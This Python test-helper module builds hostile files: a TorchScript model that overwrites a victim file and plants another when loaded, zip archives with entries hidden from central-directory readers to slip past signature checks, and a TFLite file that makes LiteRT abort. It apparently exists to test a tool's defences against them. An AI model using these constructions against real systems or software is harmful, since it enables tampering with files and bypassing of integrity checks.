"""Small hostile files, made on the fly (nothing binary is committed): a TorchScript module
whose ``__setstate__`` writes files when it is loaded, zip archives whose local entries do
not match their central directory (what a smuggler does to a signed bundle), and an int8
TFLite file LiteRT aborts the process on."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path


def evil_torchscript(folder: Path, victim: Path, planted: Path) -> Path:
    """``folder/evil.pt``: a scripted module (x -> 2x) whose __setstate__, run by
    torch.jit.load, overwrites the first 4 bytes of ``victim`` with 'XXXX' and creates
    ``planted``."""
    import torch

    class Evil(torch.nn.Module):
        def __init__(self, victim: str, planted: str):
            super().__init__()
            self.victim, self.planted, self.n = victim, planted, 0

        @torch.jit.export
        def __getstate__(self) -> tuple[str, str, bool]:
            return (self.victim, self.planted, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, str, bool]) -> None:
            self.victim, self.planted, self.training = state[0], state[1], state[2]
            self.n = int(torch.from_file(state[0], shared=True, size=4,
                                         dtype=torch.uint8).fill_(88).sum()) + int(
                torch.from_file(state[1], shared=True, size=8, dtype=torch.uint8).sum())

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * 2

    path = folder / "evil.pt"
    torch.jit.script(Evil(str(victim), str(planted))).save(str(path))
    return path


def local_entry(name: str, data: bytes) -> bytes:
    """A zip's local header and data for one entry, as zipfile writes them."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, data)
    raw = buf.getvalue()
    return raw[:raw.index(b"PK\x01\x02")]


def insert(archive: bytes, at: int, data: bytes) -> bytes:
    """``archive`` with ``data`` inserted at byte ``at`` (at or before the central directory)
    and every offset after it moved, so random-access readers (Python's zipfile, which verify
    used) still read every entry as before."""
    out = bytearray(archive[:at] + data + archive[at:])
    shift = len(data)
    eocd = out.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<I", out, eocd + 16)[0] + shift
    struct.pack_into("<I", out, eocd + 16, cd_offset)
    locator = eocd - 20
    if out[locator:locator + 4] == b"PK\x06\x07":
        record = struct.unpack_from("<Q", out, locator + 8)[0] + shift
        struct.pack_into("<Q", out, locator + 8, record)
        struct.pack_into("<Q", out, record + 48,
                         struct.unpack_from("<Q", out, record + 48)[0] + shift)
    pos = cd_offset
    while out[pos:pos + 4] == b"PK\x01\x02":
        offset = struct.unpack_from("<I", out, pos + 42)[0]
        if offset >= at:
            struct.pack_into("<I", out, pos + 42, offset + shift)
        n, m, k = struct.unpack_from("<HHH", out, pos + 28)
        pos += 46 + n + m + k
    return bytes(out)


def entry_offsets(archive: bytes) -> list[int]:
    """Where each local entry starts, in file order, and where the central directory does."""
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        return sorted(i.header_offset for i in zf.infolist()) + [zf.start_dir]


def smuggled(archive: bytes, how: str, name: str, data: bytes) -> bytes:
    """``archive`` with an entry ``name`` that only streaming unzippers see: "in front" of the
    first entry, "between" the first two, or "hidden" after the last; or with "gap" bytes
    between two entries."""
    offsets = entry_offsets(archive)
    at = {"in front": offsets[0], "between": offsets[1], "gap": offsets[1],
          "hidden": offsets[-1]}[how]
    return insert(archive, at, data if how == "gap" else local_entry(name, data))


def aborting_tflite(folder: Path) -> Path:
    """``folder/aborts.tflite``: a real int8 TFLite (Dense then Add) whose Add input carries the
    scale 1.33e36, what a float32-min attention sentinel calibrated into an int8 tensor gives
    (seen in all-MiniLM-L6-v2's int8 file): LiteRT's Add checks its rescale multiplier with
    TFLITE_CHECK and calls abort() in allocate_tensors."""
    import numpy as np
    from edgepack.compress import tflite_graph as graph
    from edgepack.quiet import captured, import_tensorflow

    tf = import_tensorflow()
    x = tf.keras.Input((8,), name="x")
    model = tf.keras.Model(x, tf.keras.layers.Add()([tf.keras.layers.Dense(8)(x), x]))
    rows = np.random.default_rng(0).random((8, 1, 8), dtype=np.float32)
    with captured():
        conv = tf.lite.TFLiteConverter.from_keras_model(model)
        conv.optimizations = [tf.lite.Optimize.DEFAULT]
        conv.representative_dataset = lambda: ([r] for r in rows)
        flat = graph.read(conv.convert())
    sub = flat.subgraphs[0]
    add = next(op for op in sub.operators if graph.op_code(flat, op) == 0)  # ADD
    sub.tensors[add.inputs[0]].quantization.scale = np.array([1.33e36], np.float32)
    path = folder / "aborts.tflite"
    path.write_bytes(graph.write(flat))
    return path
